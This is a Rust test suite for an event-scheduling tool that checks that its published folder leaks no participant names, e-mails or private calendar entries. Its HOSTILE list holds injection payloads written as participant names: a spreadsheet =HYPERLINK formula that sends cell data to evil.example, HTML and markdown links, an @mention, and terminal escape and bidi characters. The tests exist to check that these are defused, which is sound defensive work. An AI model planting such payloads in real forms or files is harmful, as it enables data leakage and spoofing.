//! What may be published: the public folder (`--out`) holds no e-mail, no name (without
//! `public_names`), nothing from a busy calendar, and no file name derived from an e-mail; each
//! participant's calendar keeps its address whoever is added, removed or reordered; text from
//! forms cannot act in the spreadsheet, pull-request comment or terminal it lands in.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use crate::support::{self, root};
use assert_cmd::Command;

const KEY: &str = "publish-test-key-0123456789abcdef0123456789";

/// The binary in `dir`, under this file's own key.
fn roundtable(dir: &Path) -> Command {
    let mut cmd = support::roundtable();
    cmd.current_dir(dir).env("ROUNDTABLE_KEY", KEY);
    cmd
}

/// Every file below `dir`, relative path → content.
fn files(dir: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("read_dir") {
            let p = e.expect("entry").path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let rel = p
                    .strip_prefix(dir)
                    .expect("inside")
                    .to_string_lossy()
                    .into_owned();
                out.insert(rel, std::fs::read_to_string(&p).expect("text file"));
            }
        }
    }
    out
}

/// The participants of a CSV as (name, email), read here with the csv crate, not roundtable.
fn csv_people(path: &Path) -> Vec<(String, String)> {
    let mut r = csv::Reader::from_path(path).expect("csv");
    r.records()
        .map(|rec| {
            let rec = rec.expect("row");
            (rec[0].to_string(), rec[1].to_string())
        })
        .collect()
}

/// The largest example, with busy calendars for ten participants, each holding one private
/// event that clashes with the Day 1 plenary (13:00–15:30Z on 14 Nov 2023).
#[test]
fn public_folder_holds_no_personal_data() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let toml = std::fs::read_to_string(root().join("sessions/peer-learning-2023-11.toml"))
        .expect("example")
        .replacen("[programme]\n", "[programme]\nbusy_dir = \"busy\"\n", 1);
    std::fs::write(d.join("p.toml"), toml).expect("write");
    std::fs::copy(
        root().join("sessions/peer-learning-2023-11.csv"),
        d.join("peer-learning-2023-11.csv"),
    )
    .expect("copy csv");
    let mut people = csv_people(&d.join("peer-learning-2023-11.csv"));
    // The [[participant]] tables of the example, read with the toml crate.
    let text = std::fs::read_to_string(d.join("p.toml")).expect("read");
    let table: toml::Table = text.parse().expect("toml");
    for p in table["participant"].as_array().expect("participants") {
        people.push((
            p["name"].as_str().expect("name").to_string(),
            p["email"].as_str().expect("email").to_string(),
        ));
    }
    assert!(people.len() > 150, "{}", people.len());
    std::fs::create_dir(d.join("busy")).expect("mkdir");
    let mut secrets = Vec::new();
    for (i, (_, email)) in people.iter().take(10).enumerate() {
        let summary = format!("Confidential clinic appointment {i}");
        let uid = format!("secret-{i}-4f1c@private.example");
        std::fs::write(
            d.join("busy").join(format!("{email}.ics")),
            format!(
                "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\nBEGIN:VEVENT\r\nUID:{uid}\r\nDTSTAMP:20231101T000000Z\r\nDTSTART:20231114T130000Z\r\nDTEND:20231114T140000Z\r\nSUMMARY:{summary}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
            ),
        )
        .expect("busy file");
        secrets.push(summary);
        secrets.push(uid);
    }
    roundtable(d)
        .args(["build", "p.toml", "--out", "public"])
        .assert()
        .success();

    // The organizer's report has the clashes (so the busy calendars were read and used) ...
    let private = files(&d.join("public.private"));
    let report = &private["report.json"];
    assert!(
        report.contains("Confidential clinic appointment 0"),
        "{report}"
    );
    assert!(private["participants/index.csv"].contains(&people[0].1));
    assert!(private.contains_key("sessions/day-1-plenary.ics"));

    // ... and nothing personal is public.
    let public = files(&d.join("public"));
    assert!(public.contains_key("index.html"));
    assert!(public.contains_key("peer-learning-2023-11.ics"));
    let calendars = public
        .keys()
        .filter(|k| k.starts_with("participants/"))
        .count();
    assert_eq!(calendars, people.len(), "one calendar per participant");
    for key in [
        "report.md",
        "report.json",
        "participants/index.csv",
        "sessions/day-1-plenary.ics",
    ] {
        assert!(!public.contains_key(key), "{key} must not be public");
    }
    let mut problems = Vec::new();
    for (path, content) in &public {
        let lower_path = path.to_lowercase();
        let lower = content.to_lowercase();
        for (name, email) in &people {
            if lower.contains(&email.to_lowercase()) {
                problems.push(format!("{path} holds the e-mail {email}"));
            }
            if content.contains(name.as_str()) {
                problems.push(format!("{path} holds the name {name}"));
            }
            let (local, domain) = email.split_once('@').expect("an e-mail");
            for part in local.split(['.', '-', '_']).filter(|p| p.len() >= 3) {
                if lower_path.contains(&part.to_lowercase()) {
                    problems.push(format!("file name {path} holds `{part}` of {email}"));
                }
            }
            if lower_path.contains(&domain.to_lowercase()) {
                problems.push(format!("file name {path} holds the domain of {email}"));
            }
        }
        for s in &secrets {
            if content.contains(s.as_str()) {
                problems.push(format!("{path} holds the busy-calendar text {s}"));
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// `public_names = true` puts names back on the page (and only there), never e-mails.
#[test]
fn public_names_opt_in_names_but_never_emails() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(
        d.join("p.toml"),
        programme(&[("Ana Souza", "ana@example.org", "a")], true),
    )
    .expect("write");
    roundtable(d)
        .args(["build", "p.toml", "--out", "site"])
        .assert()
        .success();
    let page = std::fs::read_to_string(d.join("site/index.html")).expect("page");
    assert!(page.contains("Ana Souza"));
    assert!(!page.contains("ana@example.org"));
}

fn programme(people: &[(&str, &str, &str)], public_names: bool) -> String {
    let mut text = format!(
        r#"[programme]
id = "churn"
title = "Churn"
timezone = "Europe/Paris"
organizer = {{ name = "Org", email = "org@example.org" }}
public_names = {public_names}

[[group]]
id = "a"
title = "A"

[[group]]
id = "b"
title = "B"

[[session]]
id = "for-a"
title = "For A"
start = "2024-03-05T10:00"
duration = "1h"
audience = ["a"]

[[session]]
id = "for-b"
title = "For B"
start = "2024-03-06T10:00"
duration = "1h"
audience = ["b"]

[[session]]
id = "for-all"
title = "For all"
start = "2024-03-07T10:00"
duration = "1h"
audience = "all"
"#
    );
    for (name, email, group) in people {
        text.push_str(&format!(
            "\n[[participant]]\nname = \"{name}\"\nemail = \"{email}\"\ntimezone = \"Asia/Shanghai\"\ngroups = [\"{group}\"]\n"
        ));
    }
    text
}

/// e-mail → public calendar file, from the private index (read with the csv crate).
fn index(dir: &Path) -> BTreeMap<String, String> {
    let mut r =
        csv::Reader::from_path(dir.join("site.private/participants/index.csv")).expect("index.csv");
    r.records()
        .map(|rec| {
            let rec = rec.expect("row");
            (rec[0].to_string(), rec[2].to_string())
        })
        .collect()
}

fn uids(calendar: &str) -> BTreeSet<String> {
    calendar
        .lines()
        .filter_map(|l| l.strip_prefix("UID:"))
        .map(|u| u.split('.').next().unwrap_or_default().to_string())
        .collect()
}

/// Han local parts slugged to one text before calendar names were keyed: 李 and 王 both gave
/// `_at_example.org`, and adding 张 moved 李's subscription to 张's calendar.
#[test]
fn calendar_addresses_survive_additions_removals_and_reordering() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let rounds: [&[(&str, &str, &str)]; 4] = [
        &[
            ("Li", "李@example.org", "a"),
            ("Wang", "王@example.org", "b"),
            ("Ana", "ana@example.org", "a"),
        ],
        // Added: 张 (same old slug as 李 and 王) and an NFD/NFC pair's partner.
        &[
            ("Zhang", "张@example.org", "b"),
            ("Li", "李@example.org", "a"),
            ("Wang", "王@example.org", "b"),
            ("Ana", "ana@example.org", "a"),
            ("José", "jos\u{e9}@example.org", "b"),
        ],
        // Removed: 王; reordered.
        &[
            ("José", "jos\u{e9}@example.org", "b"),
            ("Ana", "ana@example.org", "a"),
            ("Li", "李@example.org", "a"),
            ("Zhang", "张@example.org", "b"),
        ],
        // The same person written in NFD and in other case keeps one calendar.
        &[
            ("José", "JOSE\u{301}@example.org", "b"),
            ("Li", "李@example.org", "a"),
            ("Zhang", "张@example.org", "b"),
            ("Ana", "Ana@Example.org", "a"),
        ],
    ];
    // Hand-worked: group a attends for-a and for-all; group b for-b and for-all.
    let expected = |group: &str| -> BTreeSet<String> {
        [format!("for-{group}"), "for-all".to_string()]
            .into_iter()
            .collect()
    };
    let mut first_seen: BTreeMap<String, String> = BTreeMap::new();
    for (round, people) in rounds.iter().enumerate() {
        std::fs::write(d.join("p.toml"), programme(people, false)).expect("write");
        roundtable(d)
            .args(["build", "p.toml", "--out", "site"])
            .assert()
            .success();
        let map = index(d);
        assert_eq!(map.len(), people.len(), "round {round}: {map:?}");
        let files: BTreeSet<&String> = map.values().collect();
        assert_eq!(files.len(), people.len(), "round {round}: shared names");
        for (_, email, group) in people.iter() {
            // The index lists each e-mail as written; compare by the normalised address.
            let key = normalised(email);
            let file = map
                .iter()
                .find(|(e, _)| normalised(e) == key)
                .map(|(_, f)| f.clone())
                .unwrap_or_else(|| panic!("round {round}: {email} not in the index"));
            assert!(!file.contains("example") && !file.contains('@'), "{file}");
            if let Some(before) = first_seen.get(&key) {
                assert_eq!(&file, before, "round {round}: {email} moved");
            } else {
                first_seen.insert(key, file.clone());
            }
            let calendar = std::fs::read_to_string(d.join("site").join(&file)).expect("calendar");
            assert_eq!(uids(&calendar), expected(group), "round {round}: {email}");
        }
    }
}

/// NFC and lower case, written here without roundtable's code.
fn normalised(email: &str) -> String {
    email
        .replace("E\u{301}", "\u{c9}")
        .replace("e\u{301}", "\u{e9}")
        .to_lowercase()
}

#[test]
fn without_a_key_ci_refuses_and_a_desk_gets_a_generated_one() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(
        d.join("p.toml"),
        programme(&[("Ana", "ana@example.org", "a")], false),
    )
    .expect("write");
    let config = d.join("config");
    roundtable(d)
        .env_remove("ROUNDTABLE_KEY")
        .env("XDG_CONFIG_HOME", &config)
        .env("CI", "true")
        .args(["build", "p.toml", "--out", "site"])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("no calendar-address key"))
        .stderr(predicates::str::contains("ROUNDTABLE_KEY"));
    assert!(!d.join("site").exists());
    // On an organizer's machine: generated once, reported, then reused.
    roundtable(d)
        .env_remove("ROUNDTABLE_KEY")
        .env_remove("CI")
        .env("XDG_CONFIG_HOME", &config)
        .args(["build", "p.toml", "--out", "site"])
        .assert()
        .success()
        .stderr(predicates::str::contains(
            "generated the calendar-address key",
        ));
    let key_file = config.join("roundtable/keys/churn.key");
    let first = index(d);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&key_file)
            .expect("key")
            .permissions()
            .mode();
        assert_eq!(mode & 0o077, 0, "the key file is the organizer's alone");
    }
    roundtable(d)
        .env_remove("ROUNDTABLE_KEY")
        .env_remove("CI")
        .env("XDG_CONFIG_HOME", &config)
        .args(["build", "p.toml", "--out", "site"])
        .assert()
        .success()
        .stderr(predicates::str::contains("generated").not());
    assert_eq!(index(d), first);
    // The same key from a file gives the same names; another key, other names.
    roundtable(d)
        .env_remove("ROUNDTABLE_KEY")
        .arg("build")
        .arg("p.toml")
        .args(["--out", "site", "--key-file"])
        .arg(&key_file)
        .assert()
        .success();
    assert_eq!(index(d), first);
    roundtable(d)
        .args(["build", "p.toml", "--out", "site"])
        .assert()
        .success();
    assert_ne!(index(d), first);
}

use predicates::prelude::PredicateBooleanExt as _;

#[test]
fn a_private_folder_inside_the_public_one_is_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(
        d.join("p.toml"),
        programme(&[("Ana", "ana@example.org", "a")], false),
    )
    .expect("write");
    for private in ["site/private", "site", "."] {
        roundtable(d)
            .args(["build", "p.toml", "--out", "site", "--private", private])
            .assert()
            .code(2)
            .stderr(predicates::str::contains(
                "must not be inside the published one",
            ));
    }
    assert!(!d.join("site").exists());
}

#[test]
fn identical_output_for_the_same_key() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(
        d.join("p.toml"),
        programme(
            &[
                ("Ana", "ana@example.org", "a"),
                ("Li", "李@example.org", "b"),
            ],
            false,
        ),
    )
    .expect("write");
    roundtable(d)
        .args(["build", "p.toml", "--out", "one"])
        .assert()
        .success();
    roundtable(d)
        .args(["build", "p.toml", "--out", "two"])
        .assert()
        .success();
    assert_eq!(files(&d.join("one")), files(&d.join("two")));
    assert_eq!(files(&d.join("one.private")), files(&d.join("two.private")));
}

/// Names from a registration form, one hostile per medium.
const HOSTILE: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"https://evil.example/?x=\"&A1)",
        "formula@example.org",
    ),
    ("<img src=https://evil.example/p.png>", "img@example.org"),
    ("[click](https://evil.example)", "link@example.org"),
    ("@octocat", "mention@example.org"),
    ("Eve\u{1b}[2J\u{202e}gpj", "esc@example.org"),
];

fn hostile_programme(dir: &Path) {
    let mut text = String::from(
        r#"[programme]
id = "hostile"
title = "Hostile"
timezone = "Europe/Paris"
organizer = { name = "Org", email = "org@example.org" }

[[session]]
id = "night"
title = "Night"
start = "2024-03-05T18:00"
duration = "2h"
audience = "all"
"#,
    );
    for (name, email) in HOSTILE {
        let escaped = name
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\u{1b}', "\\u001B");
        text.push_str(&format!(
            "\n[[participant]]\nname = \"{escaped}\"\nemail = \"{email}\"\ntimezone = \"Asia/Tokyo\"\n"
        ));
    }
    std::fs::write(dir.join("p.toml"), text).expect("write");
}

#[test]
fn form_text_cannot_act_in_a_spreadsheet_a_comment_or_a_terminal() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    hostile_programme(d);
    roundtable(d)
        .args(["build", "p.toml", "--out", "site"])
        .assert()
        .success();
    // Spreadsheet: no cell starts a formula (read with the csv crate).
    let mut r =
        csv::Reader::from_path(d.join("site.private/participants/index.csv")).expect("index");
    for rec in r.records() {
        let rec = rec.expect("row");
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "formula cell {cell:?}"
            );
        }
    }
    // Markdown (the organizer's report, as in a pull-request comment): no HTML, link, image,
    // autolink or mention survives.
    let md = std::fs::read_to_string(d.join("site.private/report.md")).expect("report.md");
    assert!(md.contains("Hostile"), "{md}");
    for bad in [
        "<img",
        "](https://",
        "https://evil",
        "@octocat",
        "\u{1b}",
        "\u{202e}",
    ] {
        assert!(!md.contains(bad), "report.md holds {bad:?}:\n{md}");
    }
    // Terminal: `check` and `times` text never emit ESC or a bidi control.
    for args in [
        &["check", "p.toml", "--fail-on", "never"][..],
        &["times", "p.toml"][..],
    ] {
        let out = roundtable(d).args(args).output().expect("run");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("<U+001B>"), "{args:?}: {text}");
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{202e}'),
            "{args:?}: {text}"
        );
    }
}

#[test]
fn public_check_names_nobody() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    hostile_programme(d);
    for format in ["text", "markdown", "json"] {
        let out = roundtable(d)
            .args([
                "check",
                "p.toml",
                "--public",
                "--format",
                format,
                "--fail-on",
                "never",
            ])
            .output()
            .expect("run");
        let text = String::from_utf8_lossy(&out.stdout);
        // 18:00–20:00 Paris (+01:00) = 02:00–04:00 Tokyo (+09:00): night for all five.
        assert!(
            text.contains("night") && text.contains("Asia/Tokyo"),
            "{format}: {text}"
        );
        assert!(text.contains("02:00–04:00"), "{format}: {text}");
        for (name, email) in HOSTILE {
            assert!(!text.contains(email), "{format} holds {email}: {text}");
            let word: String = name
                .chars()
                .filter(|c| c.is_alphanumeric())
                .take(5)
                .collect();
            assert!(!text.contains(&word), "{format} names {name}: {text}");
        }
    }
}

/// The calendar file name is HMAC-SHA-256(key, context ‖ NFC-lower-cased e-mail), cut to 128
/// bits, as Python's `hmac` and `unicodedata` compute it (an implementation roundtable does not
/// share).
#[test]
fn calendar_names_match_an_independent_hmac() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let people = [
        ("Ana", "Ana.Souza@Example.org", "a"),
        ("José", "jose\u{301}@example.org", "b"),
        ("Li", "李@example.org", "a"),
    ];
    std::fs::write(d.join("p.toml"), programme(&people, false)).expect("write");
    roundtable(d)
        .args(["build", "p.toml", "--out", "site"])
        .assert()
        .success();
    let map = index(d);
    let script = r#"
import hashlib, hmac, sys, unicodedata
key = sys.argv[1].encode()
for email in sys.argv[2:]:
    text = unicodedata.normalize("NFC", email.strip()).lower()
    mac = hmac.new(key, b"roundtable participant calendar v1\0" + text.encode(), hashlib.sha256)
    print(email + "\t" + "participants/" + mac.hexdigest()[:32] + ".ics")
"#;
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(KEY)
        .args(people.iter().map(|p| p.1))
        .output()
        .expect("python3 (see tests/run.sh)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let expected: BTreeMap<String, String> = String::from_utf8(out.stdout)
        .expect("utf-8")
        .lines()
        .map(|l| {
            let (e, f) = l.split_once('\t').expect("tab");
            (e.to_string(), f.to_string())
        })
        .collect();
    assert_eq!(map, expected);
}
